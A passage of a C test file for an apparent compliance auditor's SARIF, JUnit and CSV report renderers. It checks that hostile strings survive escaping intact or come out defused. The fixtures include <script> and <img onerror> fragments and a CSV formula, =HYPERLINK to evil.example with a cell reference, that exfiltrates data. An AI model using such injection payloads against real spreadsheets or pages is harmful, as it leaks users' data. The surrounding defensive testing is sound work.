/* The CI-facing reports: results.sarif (SARIF 2.1.0), junit.xml, findings.csv.
 *
 * Each is rendered from tests/data/report/hostile_results.json (quotes,
 * <script>, "><img onerror>, ]]>, commas, CR/LF, control characters,
 * non-ASCII, formula-looking cells, repeated findings on one resource) and
 * from the demo fixture through the binary, then read back by an independent
 * reader: SARIF by Microsoft's SARIF Multitool and by the SARIF 2.1.0 JSON
 * schema (python3-jsonschema), JUnit by expat, CSV by the RFC 4180 reader
 * below. Every string must come back as it went in (less what the format
 * cannot hold), counts and mappings must match the input finding by finding.
 *
 * The external validators are installed by `scripts/install-deps --tests`
 * (the Multitool into .tools/). Without them the checks that need them are
 * skipped with a message, unless CA_REQUIRE_TOOLS=1 (CI), where that fails. */
#define _XOPEN_SOURCE 700 /* strdup */
#include <check.h>
#include <expat.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cjson/cJSON.h>

#include "ca_limits.h"
#include "report/report.h"
#include "report/text.h"
#include "util/fsutil.h"
#include "util/jsonfile.h"
#include "util/sha256.h"

#include "testutil.h"

#define HOSTILE CA_TEST_SRC "/tests/data/report/hostile_results.json"
#define MULTITOOL CA_TEST_SRC "/.tools/node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool"
/* The SARIF 2.1.0 schema as the Multitool package ships it (Microsoft's SDK copy). */
#define SARIF_SCHEMA CA_TEST_SRC "/.tools/node_modules/@microsoft/sarif-multitool-linux/sarif-2.1.0.json"
#define PYTHON "/usr/bin/python3"

static void setup(void) { tu_setup("rci"); }
static void teardown(void) { tu_teardown(); }

/* char var[256] = tu_dir/name */
#define PATH(var, name) \
  char var[256];        \
  snprintf(var, sizeof var, "%s/%s", tu_dir, name)

/* Renders results with f; the caller frees. */
static char *render(const cJSON *results, const char *name, size_t *len) {
  const ca_format *f = ca_format_find(name);
  ck_assert_ptr_nonnull(f);
  ca_buf b;
  ca_buf_init(&b, CA_MAX_REPORT_BYTES);
  ca_err e = {0};
  ck_assert_msg(!f->render(results, &b, &e), "%s: %s", name, e.msg);
  if (len) *len = b.len;
  return ca_buf_steal(&b);
}

/* An external validator is missing: a loud skip on a developer's machine, a
 * failure where CA_REQUIRE_TOOLS=1. Returns 1 when the caller should skip. */
static int tool_missing(const char *what) {
  const char *req = getenv("CA_REQUIRE_TOOLS");
  ck_assert_msg(!(req && !strcmp(req, "1")), "%s is missing and CA_REQUIRE_TOOLS=1: run scripts/install-deps --tests", what);
  fprintf(stderr, "\n*** SKIPPED: %s is missing; run scripts/install-deps --tests ***\n\n", what);
  return 1;
}

/* What the renderers make of a string: ca_text_clean (UTF-8 repaired,
 * forbidden controls as U+FFFD). */
static char *cleaned(const char *s) {
  ca_buf b;
  ca_buf_init(&b, 1 << 20);
  ck_assert_int_eq(ca_text_clean(&b, s, strlen(s)), 0);
  return ca_buf_steal(&b);
}

static const char *str(const cJSON *o, const char *k) { return ca_rstr(o, k, ""); }
static const cJSON *get(const cJSON *o, const char *k) { return cJSON_GetObjectItemCaseSensitive(o, k); }

/* ---------------- helpers ---------------- */

START_TEST(clean_replaces_what_is_not_utf8_or_xml_text) {
  static const struct { const char *in, *out; } t[] = {
    {"plain ASCII, <kept>", "plain ASCII, <kept>"},
    {"tab\tlf\ncr\r", "tab\tlf\ncr\r"},
    {"\x01\x1b[31m\x7f", "\xEF\xBF\xBD\xEF\xBF\xBD[31m\x7f"},
    {"Z\xC3\xBCrich \xE6\x9D\xB1 \xF0\x9F\x98\x80", "Z\xC3\xBCrich \xE6\x9D\xB1 \xF0\x9F\x98\x80"},
    {"bad \xFF end", "bad \xEF\xBF\xBD end"},
    {"overlong \xC0\xAF", "overlong \xEF\xBF\xBD\xEF\xBF\xBD"},
    {"surrogate \xED\xA0\x80", "surrogate \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},
    {"truncated \xE6\x9D", "truncated \xEF\xBF\xBD\xEF\xBF\xBD"},
    {"nonchar \xEF\xBF\xBE\xEF\xBF\xBF", "nonchar \xEF\xBF\xBD\xEF\xBF\xBD"},
    {"past max \xF4\x90\x80\x80", "past max \xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD\xEF\xBF\xBD"},
  };
  for (size_t i = 0; i < sizeof t / sizeof t[0]; i++) {
    char *c = cleaned(t[i].in);
    ck_assert_msg(!strcmp(c, t[i].out), "case %zu: got \"%s\"", i, c);
    free(c);
  }
}
END_TEST

START_TEST(dups_rank_equal_keys_in_order) {
  const char *k[] = {"b", "a", "b", "c", "b", "a"};
  ca_dup d[6];
  ck_assert_int_eq(ca_dups(k, 6, d), 0);
  static const ca_dup want[] = {{0, 0, 3}, {1, 0, 2}, {0, 1, 3}, {3, 0, 1}, {0, 2, 3}, {1, 1, 2}};
  for (int i = 0; i < 6; i++) {
    ck_assert_uint_eq(d[i].first, want[i].first);
    ck_assert_uint_eq(d[i].ord, want[i].ord);
    ck_assert_uint_eq(d[i].count, want[i].count);
  }
}
END_TEST

/* The asff Id and the ocsf finding_info.uid come from one helper (text.c):
 * the rank among a rule's findings on one ARN, and the hash of rule, ARN and
 * rank -- the value pinned here is `printf 'R-1\narn:aws:s3:::b\n1' | sha256sum`. */
START_TEST(finding_uid_is_rule_arn_and_rank) {
  cJSON *f = cJSON_Parse("[{\"rule_id\":\"R-1\",\"resource\":{\"arn\":\"arn:aws:s3:::b\"}},"
                         "{\"rule_id\":\"R-2\",\"resource\":{\"arn\":\"arn:aws:s3:::b\"}},"
                         "{\"rule_id\":\"R-1\",\"resource\":{\"arn\":\"arn:aws:s3:::b\"}}]");
  ca_dup *d = ca_finding_ranks(f, 3);
  ck_assert_ptr_nonnull(d);
  ck_assert_uint_eq(d[0].ord, 0);
  ck_assert_uint_eq(d[1].ord, 0);
  ck_assert_uint_eq(d[2].ord, 1);
  char id[128];
  ca_finding_uid(id, sizeof id, "111122223333", "R-1", "arn:aws:s3:::b", d[2].ord);
  ck_assert_str_eq(id, "connect-auditor/111122223333/5c304611ecc635ddb6d8dc9c161840b2");
  free(d);
  cJSON_Delete(f);
}
END_TEST

/* ---------------- SARIF ---------------- */

static const char *level_for(const char *status, const char *sev) {
  if (!strcmp(status, "pass") || !strcmp(status, "manual") || !strcmp(status, "skipped")) return "none";
  if (!strcmp(status, "error")) return "error";
  if (!strcmp(sev, "critical") || !strcmp(sev, "high")) return "error";
  return !strcmp(sev, "medium") ? "warning" : "note";
}

static const char *kind_for(const char *status) {
  if (!strcmp(status, "pass")) return "pass";
  if (!strcmp(status, "manual")) return "review";
  if (!strcmp(status, "skipped")) return "notApplicable";
  return "fail";   /* fail, error, waived */
}

START_TEST(sarif_maps_every_finding) {
  cJSON *in = tu_load(HOSTILE);
  char *text = render(in, "sarif", NULL);
  cJSON *log = cJSON_Parse(text);
  ck_assert_ptr_nonnull(log);
  ck_assert_str_eq(str(log, "version"), "2.1.0");
  ck_assert_int_eq(cJSON_GetArraySize(get(log, "runs")), 1);
  const cJSON *run = cJSON_GetArrayItem(get(log, "runs"), 0);
  const cJSON *driver = get(get(run, "tool"), "driver");
  ck_assert_str_eq(str(driver, "name"), "connect-auditor");
  ck_assert_str_eq(str(driver, "version"), "0.1.0");
  ck_assert_ptr_null(get(driver, "informationUri"));   /* none to give: omitted, not invented */
  const cJSON *rules = get(driver, "rules");
  /* every rule of the results (HOST-UNUSED has no finding), plus the one that failed to load */
  ck_assert_int_eq(cJSON_GetArraySize(rules), cJSON_GetArraySize(get(in, "rules")) + 1);
  const cJSON *r0 = cJSON_GetArrayItem(rules, 0), *rin = cJSON_GetArrayItem(get(in, "rules"), 0);
  ck_assert_str_eq(str(r0, "id"), "HOST-001");
  ck_assert_str_eq(str(get(r0, "shortDescription"), "text"), str(rin, "title"));
  ck_assert_str_eq(str(get(r0, "fullDescription"), "text"), str(rin, "rationale"));
  ck_assert_str_eq(str(get(r0, "help"), "text"), str(rin, "remediation"));
  ck_assert_str_eq(str(get(r0, "defaultConfiguration"), "level"), "error");
  ck_assert_str_eq(str(get(r0, "properties"), "severity"), "critical");
  ck_assert_str_eq(str(get(r0, "properties"), "practice"), "PII-2");
  ck_assert_str_eq(cJSON_GetArrayItem(get(get(r0, "properties"), "controls"), 1)->valuestring, "HIPAA 164.312(a)(2)(iv)");
  const cJSON *tags = get(get(r0, "properties"), "tags");
  ck_assert_str_eq(cJSON_GetArrayItem(tags, 0)->valuestring, "PCI-DSS-4.0");
  ck_assert_str_eq(cJSON_GetArrayItem(tags, 1)->valuestring, "HIPAA");
  ck_assert_str_eq(str(cJSON_GetArrayItem(rules, 1), "name"), "MfaForKmsTls");
  ck_assert_str_eq(str(get(cJSON_GetArrayItem(rules, 1), "defaultConfiguration"), "level"), "warning");
  ck_assert_str_eq(str(get(cJSON_GetArrayItem(rules, 2), "defaultConfiguration"), "level"), "note");

  const cJSON *results = get(run, "results"), *findings = get(in, "findings");
  ck_assert_int_eq(cJSON_GetArraySize(results), cJSON_GetArraySize(findings));
  cJSON *seen = cJSON_CreateObject();
  for (int i = 0; i < cJSON_GetArraySize(findings); i++) {
    const cJSON *f = cJSON_GetArrayItem(findings, i), *r = cJSON_GetArrayItem(results, i);
    const char *st = str(f, "status");
    ck_assert_str_eq(str(r, "ruleId"), str(f, "rule_id"));
    const cJSON *rule = cJSON_GetArrayItem(rules, get(r, "ruleIndex")->valueint);
    ck_assert_str_eq(str(rule, "id"), str(f, "rule_id"));
    ck_assert_msg(!strcmp(str(r, "level"), level_for(st, str(f, "severity"))), "finding %d (%s): level %s", i, st, str(r, "level"));
    ck_assert_str_eq(str(r, "kind"), kind_for(st));
    ck_assert_str_eq(str(get(r, "message"), "text"), str(f, "message"));   /* the hostile text, intact: JSON escapes controls */
    const cJSON *ll = cJSON_GetArrayItem(get(cJSON_GetArrayItem(get(r, "locations"), 0), "logicalLocations"), 0);
    ck_assert_str_eq(str(ll, "fullyQualifiedName"), str(get(f, "resource"), "arn"));
    ck_assert_str_eq(str(ll, "kind"), "resource");
    /* GitHub needs an artifact on every result: the snapshot file (hostile results record none: a stand-in name) */
    const cJSON *phys = get(cJSON_GetArrayItem(get(r, "locations"), 0), "physicalLocation");
    ck_assert_str_eq(str(get(phys, "artifactLocation"), "uri"), "snapshot.json");
    const cJSON *props = get(r, "properties");
    ck_assert_str_eq(str(props, "status"), st);
    ck_assert_str_eq(str(get(props, "resource"), "type"), str(get(f, "resource"), "type"));
    ck_assert_str_eq(str(get(props, "resource"), "region"), str(get(f, "resource"), "region"));
    ck_assert(cJSON_Compare(get(props, "evidence"), get(f, "evidence"), 1));
    ck_assert(cJSON_Compare(get(props, "controls"), get(f, "controls"), 1));
    ck_assert_int_eq(cJSON_IsTrue(get(props, "evidenceMissing")), !strcmp(st, "error"));
    ck_assert_int_eq(get(r, "suppressions") != NULL, !strcmp(st, "waived"));
    /* fingerprints: one per result, never shared, the documented hash for a first occurrence */
    const char *fp = str(get(r, "partialFingerprints"), "connectAuditor/v1");
    ck_assert_uint_eq(strlen(fp), 64);
    ck_assert_msg(!get(seen, fp), "finding %d shares fingerprint %s", i, fp);
    cJSON_AddTrueToObject(seen, fp);
  }
  cJSON_Delete(seen);
  /* the first finding's fingerprint is sha256(rule NUL arn NUL path NUL path NUL) */
  const cJSON *f0 = cJSON_GetArrayItem(findings, 0);
  ca_buf b;
  ca_buf_init(&b, 1 << 20);
  ca_buf_adds(&b, str(f0, "rule_id"));
  ca_buf_add(&b, "", 1);
  ca_buf_adds(&b, str(get(f0, "resource"), "arn"));
  ca_buf_add(&b, "", 1);
  const cJSON *e;
  cJSON_ArrayForEach(e, get(f0, "evidence")) ca_buf_adds(&b, str(e, "path")), ca_buf_add(&b, "", 1);
  char hex[65];
  ca_sha256_hex(b.data, b.len, hex);
  ca_buf_free(&b);
  ck_assert_str_eq(str(get(cJSON_GetArrayItem(results, 0), "partialFingerprints"), "connectAuditor/v1"), hex);
  /* waiver as a SARIF suppression */
  const cJSON *w = cJSON_GetArrayItem(get(cJSON_GetArrayItem(results, 8), "suppressions"), 0);
  ck_assert_str_eq(str(w, "kind"), "external");
  ck_assert_str_eq(str(w, "justification"), "accepted, \"risk\" <b>until</b> ]]>");
  /* no clock; the hashes an auditor checks */
  const cJSON *inv = cJSON_GetArrayItem(get(run, "invocations"), 0);
  ck_assert(cJSON_IsTrue(get(inv, "executionSuccessful")));
  ck_assert_int_eq(cJSON_GetArraySize(inv), 1);
  ck_assert_str_eq(str(get(get(run, "properties"), "snapshot"), "sha256"), str(get(in, "snapshot"), "sha256"));
  ck_assert_str_eq(str(cJSON_GetArrayItem(get(get(run, "properties"), "packs"), 1), "sha256"),
                   str(cJSON_GetArrayItem(get(in, "packs"), 1), "sha256"));
  cJSON_Delete(log);
  free(text);
  cJSON_Delete(in);
}
END_TEST

/* The Multitool's findings at level error or warning, one per line, except
 * SARIF2005's informationUri advice: the project has no web page to name. */
static char *multitool_complaints(const char *sarif, int *code) {
  PATH(log, "validation.sarif");
  PATH(out, "validation.txt");
  /* Rule SARIF2006 GETs every URI in the log; a proxy on a closed loopback
   * port keeps the test off the network. Invariant globalization: a machine
   * without libicu can run the .NET binary too. */
  const char *env[] = {"https_proxy=http://127.0.0.1:9", "http_proxy=http://127.0.0.1:9", "no_proxy=",
                       "DOTNET_SYSTEM_GLOBALIZATION_INVARIANT=1", "DOTNET_CLI_TELEMETRY_OPTOUT=1", NULL};
  const char *argv[] = {MULTITOOL, "validate", sarif, "-o", log, "--log", "ForceOverwrite",
                        "--level", "Error;Warning;Note", NULL};
  *code = tu_spawn(argv, env, out, NULL);
  char *console = tu_read(out, NULL);
  cJSON *v = tu_load(log);
  const cJSON *vrun = cJSON_GetArrayItem(get(v, "runs"), 0);
  const cJSON *vrules = get(get(get(vrun, "tool"), "driver"), "rules");
  ca_buf b;
  ca_buf_init(&b, 1 << 20);
  ca_buf_adds(&b, "");
  const cJSON *r;
  cJSON_ArrayForEach(r, get(vrun, "results")) {
    const char *level = str(r, "level");
    if (!*level) level = str(get(cJSON_GetArrayItem(vrules, get(r, "ruleIndex")->valueint), "defaultConfiguration"), "level");
    if (!*level) level = "warning";
    const char *id = str(get(r, "message"), "id");
    if (strcmp(level, "error") && strcmp(level, "warning")) continue;
    if (!strcmp(str(r, "ruleId"), "SARIF2005") && strstr(id, "nformationUri")) continue;   /* SDK spells it "Toolnformation" */
    ca_buf_printf(&b, "%s %s %s\n", level, str(r, "ruleId"), id);
  }
  if (!get(vrun, "results")) ca_buf_printf(&b, "no validation results at all:\n%s\n", console);
  cJSON_Delete(v);
  free(console);
  return ca_buf_steal(&b);
}

START_TEST(sarif_passes_the_multitool) {
  if (access(MULTITOOL, X_OK) && tool_missing("the SARIF Multitool (" MULTITOOL ")")) return;
  cJSON *in = tu_load(HOSTILE);
  /* as audit writes it now: the snapshot's file and each resource's line (a
   * results.json from before snapshot.file gets a stand-in name and no
   * region, which the Multitool rightly warns about) */
  cJSON_AddStringToObject(cJSON_GetObjectItem(in, "snapshot"), "file", "fixtures/hostile snapshot.json");
  int line = 10;
  cJSON *hf;
  cJSON_ArrayForEach(hf, cJSON_GetObjectItem(in, "findings"))
    cJSON_AddNumberToObject(cJSON_GetObjectItem(hf, "resource"), "line", line++);
  char *text = render(in, "sarif", NULL);
  PATH(p, "hostile.sarif");
  tu_spit(p, text);
  int code;
  char *c = multitool_complaints(p, &code);
  ck_assert_msg(!*c, "SARIF Multitool on %s:\n%s", p, c);
  ck_assert_int_eq(code, 0);
  free(c);
  /* the harness can fail: the same log without the required driver name */
  cJSON *log = cJSON_Parse(text);
  cJSON *driver = cJSON_GetObjectItem(cJSON_GetObjectItem(cJSON_GetArrayItem(cJSON_GetObjectItem(log, "runs"), 0), "tool"), "driver");
  cJSON_DeleteItemFromObject(driver, "name");
  char *broken = cJSON_Print(log);
  tu_spit(p, broken);
  c = multitool_complaints(p, &code);
  ck_assert_msg(strstr(c, "error JSON1002"), "the Multitool accepted a driver without a name: %s", c);
  free(c);
  free(broken);
  cJSON_Delete(log);
  free(text);
  cJSON_Delete(in);
}
END_TEST

/* python3-jsonschema against the SARIF 2.1.0 schema. The Multitool checks
 * required members (JSON1002 above) but reads enums leniently: a result with
 * "level": "bogus" passes it silently (measured with 5.7.0), so the schema
 * is checked on its own. Prints each violation; exit 1 if any. */
static const char schema_py[] =
  "import json, sys, jsonschema\n"
  "schema = json.load(open(sys.argv[1]))\n"
  "# the Multitool's copy says draft 2020-12 but is written in draft-07 terms (definitions)\n"
  "v = jsonschema.Draft7Validator(schema)\n"
  "bad = 0\n"
  "for p in sys.argv[2:]:\n"
  "    for e in v.iter_errors(json.load(open(p, encoding='utf-8'))):\n"
  "        bad += 1\n"
  "        print(p, '/'.join(map(str, e.absolute_path)), e.message[:200])\n"
  "sys.exit(1 if bad else 0)\n";

START_TEST(sarif_passes_the_json_schema) {
  if (access(SARIF_SCHEMA, R_OK) && tool_missing("the SARIF 2.1.0 schema (" SARIF_SCHEMA ")")) return;
  const char *probe[] = {PYTHON, "-c", "import jsonschema", NULL};
  PATH(probe_out, "probe.txt");
  PATH(report, "schema.txt");
  if ((access(PYTHON, X_OK) || tu_spawn(probe, NULL, probe_out, NULL)) && tool_missing("python3-jsonschema")) return;
  cJSON *in = tu_load(HOSTILE);
  char *text = render(in, "sarif", NULL);
  PATH(good, "hostile.sarif");
  PATH(bad, "bogus.sarif");
  tu_spit(good, text);
  cJSON *log = cJSON_Parse(text);
  cJSON *r0 = cJSON_GetArrayItem(get(cJSON_GetArrayItem(get(log, "runs"), 0), "results"), 0);
  cJSON_ReplaceItemInObject(r0, "level", cJSON_CreateString("bogus"));
  char *t2 = cJSON_Print(log);
  tu_spit(bad, t2);
  const char *argv[] = {PYTHON, "-c", schema_py, SARIF_SCHEMA, good, NULL};
  int code = tu_spawn(argv, NULL, report, NULL);
  char *msg = tu_read(report, NULL);
  ck_assert_msg(code == 0, "schema violations:\n%s", msg);
  free(msg);
  const char *argv2[] = {PYTHON, "-c", schema_py, SARIF_SCHEMA, bad, NULL};
  ck_assert_int_eq(tu_spawn(argv2, NULL, report, NULL), 1);   /* and the check can fail */
  msg = tu_read(report, NULL);
  ck_assert_msg(strstr(msg, "'bogus' is not one of"), "%s", msg);
  free(msg);
  free(t2);
  cJSON_Delete(log);
  free(text);
  cJSON_Delete(in);
}
END_TEST

/* ---------------- JUnit ---------------- */

typedef struct xmlseen {
  int suites, cases, failures, errors, skipped, depth;
  int suite_counts[4], case_child;          /* tests failures errors skipped attributes of the open suite */
  int counted[4];                            /* what its children add up to */
  char suite[512], cls[512], name[4096];
  cJSON *names;                              /* "suite\x1fclass\x1fname" seen */
  cJSON *cases_in_order;                     /* [{suite, classname, name, child, message, type, text}] */
  cJSON *cur;
  ca_buf text;
  char err[256];
} xmlseen;

static const char *attr(const char **a, const char *k) {
  for (; a && *a; a += 2)
    if (!strcmp(a[0], k)) return a[1];
  return NULL;
}

static void x_start(void *u, const char *el, const char **a) {
  xmlseen *s = u;
  s->depth++;
  if (!strcmp(el, "testsuite")) {
    s->suites++;
    snprintf(s->suite, sizeof s->suite, "%s", attr(a, "name") ? attr(a, "name") : "");
    static const char *const k[] = {"tests", "failures", "errors", "skipped"};
    for (int i = 0; i < 4; i++) {
      s->suite_counts[i] = attr(a, k[i]) ? atoi(attr(a, k[i])) : -1;
      s->counted[i] = 0;
    }
  } else if (!strcmp(el, "testcase")) {
    s->cases++;
    s->counted[0]++;
    s->cur = cJSON_CreateObject();
    cJSON_AddStringToObject(s->cur, "suite", s->suite);
    cJSON_AddStringToObject(s->cur, "classname", attr(a, "classname") ? attr(a, "classname") : "");
    cJSON_AddStringToObject(s->cur, "name", attr(a, "name") ? attr(a, "name") : "");
    cJSON_AddStringToObject(s->cur, "child", "");
    cJSON_AddItemToArray(s->cases_in_order, s->cur);
    char key[8192];
    snprintf(key, sizeof key, "%s\x1f%s\x1f%s", s->suite, str(s->cur, "classname"), str(s->cur, "name"));
    if (get(s->names, key) && !s->err[0]) snprintf(s->err, sizeof s->err, "duplicate testcase %.200s", key);
    cJSON_AddTrueToObject(s->names, key);
  } else if (!strcmp(el, "failure") || !strcmp(el, "error") || !strcmp(el, "skipped")) {
    int k = el[0] == 'f' ? 1 : el[0] == 'e' ? 2 : 3;
    s->counted[k]++;
    *(k == 1 ? &s->failures : k == 2 ? &s->errors : &s->skipped) += 1;
    cJSON_ReplaceItemInObject(s->cur, "child", cJSON_CreateString(el));
    cJSON_AddStringToObject(s->cur, "message", attr(a, "message") ? attr(a, "message") : "");
    if (attr(a, "type")) cJSON_AddStringToObject(s->cur, "type", attr(a, "type"));
    s->text.len = 0;
  }
}

static void x_end(void *u, const char *el) {
  xmlseen *s = u;
  s->depth--;
  if ((!strcmp(el, "failure") || !strcmp(el, "error")) && s->cur)
    cJSON_AddStringToObject(s->cur, "text", s->text.data ? s->text.data : "");
  if (!strcmp(el, "testsuite"))
    for (int i = 0; i < 4; i++)
      if (s->suite_counts[i] != s->counted[i] && !s->err[0])
        snprintf(s->err, sizeof s->err, "suite %.100s: attribute %d says %d, children %d", s->suite, i,
                 s->suite_counts[i], s->counted[i]);
}

static void x_text(void *u, const char *t, int n) {
  xmlseen *s = u;
  ca_buf_add(&s->text, t, (size_t)n);
}

/* Parses XML with expat; fails the test on any error. */
static void parse_xml(const char *text, size_t len, xmlseen *s) {
  memset(s, 0, sizeof *s);
  s->names = cJSON_CreateObject();
  s->cases_in_order = cJSON_CreateArray();
  ca_buf_init(&s->text, 1 << 24);
  XML_Parser p = XML_ParserCreate("UTF-8");
  XML_SetUserData(p, s);
  XML_SetElementHandler(p, x_start, x_end);
  XML_SetCharacterDataHandler(p, x_text);
  int ok = XML_Parse(p, text, (int)len, 1) == XML_STATUS_OK;
  ck_assert_msg(ok, "expat: %s at line %lu", XML_ErrorString(XML_GetErrorCode(p)),
                (unsigned long)XML_GetCurrentLineNumber(p));
  XML_ParserFree(p);
  ck_assert_msg(!s->err[0], "%s", s->err);
}

static void xmlseen_free(xmlseen *s) {
  cJSON_Delete(s->names);
  cJSON_Delete(s->cases_in_order);
  ca_buf_free(&s->text);
}

START_TEST(junit_parses_and_counts) {
  cJSON *in = tu_load(HOSTILE);
  size_t len;
  char *text = render(in, "junit", &len);
  ck_assert_ptr_null(strstr(text, "time"));        /* no clock */
  ck_assert_ptr_null(strstr(text, "]]>"));         /* escaped, no CDATA to break out of */
  ck_assert_ptr_null(strstr(text, "<script"));
  ck_assert_ptr_null(strstr(text, "<img"));
  xmlseen s;
  parse_xml(text, len, &s);
  /* suites: the three listed packs (one without findings) and the unlisted one */
  ck_assert_int_eq(s.suites, 4);
  ck_assert_int_eq(s.cases, 12);
  ck_assert_int_eq(s.failures, 5);
  ck_assert_int_eq(s.errors, 3);
  ck_assert_int_eq(s.skipped, 3);    /* manual, skipped, waived */
  /* every finding is a testcase with its rule and resource, in suite order */
  const cJSON *findings = get(in, "findings"), *c;
  int n = 0;
  cJSON_ArrayForEach(c, s.cases_in_order) {
    const cJSON *f = NULL, *x;
    int i = 0;
    cJSON_ArrayForEach(x, findings) {   /* the finding this case is: same rule, name starts with its ARN */
      char *arn = cleaned(str(get(x, "resource"), "arn"));
      if (!strcmp(str(x, "rule_id"), str(c, "classname")) && !strncmp(str(c, "name"), arn, strlen(arn)) &&
          !strcmp(str(c, "suite"), str(x, "pack")))
        f = f ? f : x;
      free(arn);
      i++;
    }
    ck_assert_msg(f != NULL, "case %s / %s matches no finding", str(c, "classname"), str(c, "name"));
    const char *st = str(f, "status");
    const char *child = !strcmp(st, "fail") ? "failure" : !strcmp(st, "error") ? "error" : !strcmp(st, "pass") ? "" : "skipped";
    if (strcmp(str(f, "rule_id"), "HOST-001") && strcmp(str(f, "rule_id"), "HOST-002"))   /* unique (rule, ARN): exact */
      ck_assert_str_eq(str(c, "child"), child);
    n++;
  }
  ck_assert_int_eq(n, 12);
  /* hostile strings come back from the parser as they went in (controls as U+FFFD) */
  const cJSON *c0 = cJSON_GetArrayItem(s.cases_in_order, 0), *f0 = cJSON_GetArrayItem(findings, 0);
  char *msg = cleaned(str(f0, "message")), *arn = cleaned(str(get(f0, "resource"), "arn"));
  ck_assert_str_eq(str(c0, "message"), msg);
  ck_assert_str_eq(str(c0, "type"), "critical");
  char want[4096];
  snprintf(want, sizeof want, "%s: %s", arn, msg);   /* three findings of HOST-001 on one resource */
  ck_assert_str_eq(str(c0, "name"), want);
  ck_assert_ptr_nonnull(strstr(str(c0, "text"), "/resources/s3_bucket/x/data/]]>/<script>={\"a\":[1,\"two\",null],\"b\":true}\xE2\x86\x92SSE-KMS, \"aws:kms\""));
  ck_assert_ptr_nonnull(strstr(str(c0, "text"), "Controls: PCI-DSS-4.0 3.5.1; HIPAA 164.312(a)(2)(iv)"));
  free(msg);
  free(arn);
  /* same message twice: numbered; CR survives in text */
  ck_assert_ptr_nonnull(strstr(str(cJSON_GetArrayItem(s.cases_in_order, 2), "name"), "second finding, same resource #2"));
  ck_assert_ptr_nonnull(strstr(str(cJSON_GetArrayItem(s.cases_in_order, 1), "text"), "/p3=a\r\nb"));
  /* waiver: reason, approver and expiry in the skip message */
  cJSON_ArrayForEach(c, s.cases_in_order)
    if (!strcmp(str(c, "classname"), "HOST-005") && !strcmp(str(c, "child"), "skipped"))
      ck_assert_str_eq(str(c, "message"),
                       "waived: accepted, \"risk\" <b>until</b> ]]> (approved by Ann O'Neil <ann@example.com>, expires 2027-01-31)");
  xmlseen_free(&s);
  free(text);
  cJSON_Delete(in);
}
END_TEST

/* ---------------- CSV ---------------- */

/* RFC 4180 reader: records of fields; fails on anything the RFC does not
 * allow (a quote inside an unquoted field, text after a closing quote, a
 * bare LF or CR as a line end). */
static cJSON *parse_csv(const char *t, size_t n) {
  cJSON *rows = cJSON_CreateArray(), *row = cJSON_CreateArray();
  ca_buf f;
  ca_buf_init(&f, 1 << 24);
  size_t i = 0;
  while (i < n) {
    f.len = 0;
    ca_buf_adds(&f, "");
    if (t[i] == '"') {
      for (i++;; i++) {
        ck_assert_msg(i < n, "unterminated quoted field");
        if (t[i] == '"' && i + 1 < n && t[i + 1] == '"') ca_buf_add(&f, "\"", 1), i++;
        else if (t[i] == '"') break;
        else ca_buf_add(&f, t + i, 1);
      }
      i++;
    } else {
      for (; i < n && t[i] != ',' && t[i] != '\r' && t[i] != '\n'; i++) {
        ck_assert_msg(t[i] != '"', "quote in an unquoted field at byte %zu", i);
        ca_buf_add(&f, t + i, 1);
      }
    }
    cJSON_AddItemToArray(row, cJSON_CreateString(f.data));
    ck_assert_msg(i < n, "the last record has no CRLF");
    if (t[i] == ',') {
      i++;
      continue;
    }
    ck_assert_msg(t[i] == '\r' && i + 1 < n && t[i + 1] == '\n', "byte %zu: a record must end with CRLF", i);
    i += 2;
    cJSON_AddItemToArray(rows, row);
    row = cJSON_CreateArray();
  }
  cJSON_Delete(row);
  ca_buf_free(&f);
  return rows;
}

/* What a field should read as: cleaned, and defused if a spreadsheet would run it. */
static char *csv_expect(const char *s) {
  char *c = cleaned(s);
  if (!c[0] || !strchr("=+-@\t\r", c[0])) return c;
  char *d = malloc(strlen(c) + 2);
  d[0] = '\'';
  strcpy(d + 1, c);
  free(c);
  return d;
}

START_TEST(csv_round_trips_hostile_fields) {
  cJSON *in = tu_load(HOSTILE);
  size_t len;
  char *text = render(in, "csv", &len);
  cJSON *rows = parse_csv(text, len);
  const cJSON *findings = get(in, "findings");
  ck_assert_int_eq(cJSON_GetArraySize(rows), cJSON_GetArraySize(findings) + 1);
  const cJSON *hdr = cJSON_GetArrayItem(rows, 0), *row;
  static const char *const cols[] = {"rule_id", "status", "severity", "title", "resource_arn", "resource_type",
                                     "resource_name", "region", "controls", "practice", "message", "evidence", "remediation"};
  ck_assert_int_eq(cJSON_GetArraySize(hdr), 13);
  for (int k = 0; k < 13; k++) ck_assert_str_eq(cJSON_GetArrayItem(hdr, k)->valuestring, cols[k]);
  int i = 0;
  cJSON_ArrayForEach(row, rows) {
    if (row == hdr) continue;
    const cJSON *f = cJSON_GetArrayItem(findings, i++), *r = get(f, "resource");
    ck_assert_int_eq(cJSON_GetArraySize(row), 13);
    const char *want[] = {str(f, "rule_id"), str(f, "status"), str(f, "severity"), str(f, "title"), str(r, "arn"),
                          str(r, "type"), str(r, "name"), str(r, "region"), NULL, str(f, "practice"),
                          str(f, "message"), NULL, str(f, "remediation")};
    for (int k = 0; k < 13; k++) {
      if (!want[k]) continue;
      char *e = csv_expect(want[k]);
      ck_assert_msg(!strcmp(cJSON_GetArrayItem(row, k)->valuestring, e), "row %d column %s: \"%s\" != \"%s\"", i,
                    cols[k], cJSON_GetArrayItem(row, k)->valuestring, e);
      free(e);
    }
  }
  /* formula-looking cells are defused; the rest is untouched */
  const cJSON *r7 = cJSON_GetArrayItem(rows, 7), *r8 = cJSON_GetArrayItem(rows, 8);
  ck_assert_str_eq(cJSON_GetArrayItem(r7, 10)->valuestring, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
  ck_assert_str_eq(cJSON_GetArrayItem(r8, 10)->valuestring, "'\tstarts with a tab, then\nnew line");
  ck_assert_str_eq(cJSON_GetArrayItem(r8, 6)->valuestring, "'-neg");
  ck_assert_str_eq(cJSON_GetArrayItem(cJSON_GetArrayItem(rows, 1), 8)->valuestring,
                   "PCI-DSS-4.0 3.5.1; HIPAA 164.312(a)(2)(iv)");
  ck_assert_str_eq(cJSON_GetArrayItem(cJSON_GetArrayItem(rows, 1), 11)->valuestring,
                   "/resources/s3_bucket/x/data/]]>/<script>={\"a\":[1,\"two\",null],\"b\":true}\xE2\x86\x92SSE-KMS, \"aws:kms\"; "
                   "/p2=false\xE2\x86\x92true (note\twith tab)");
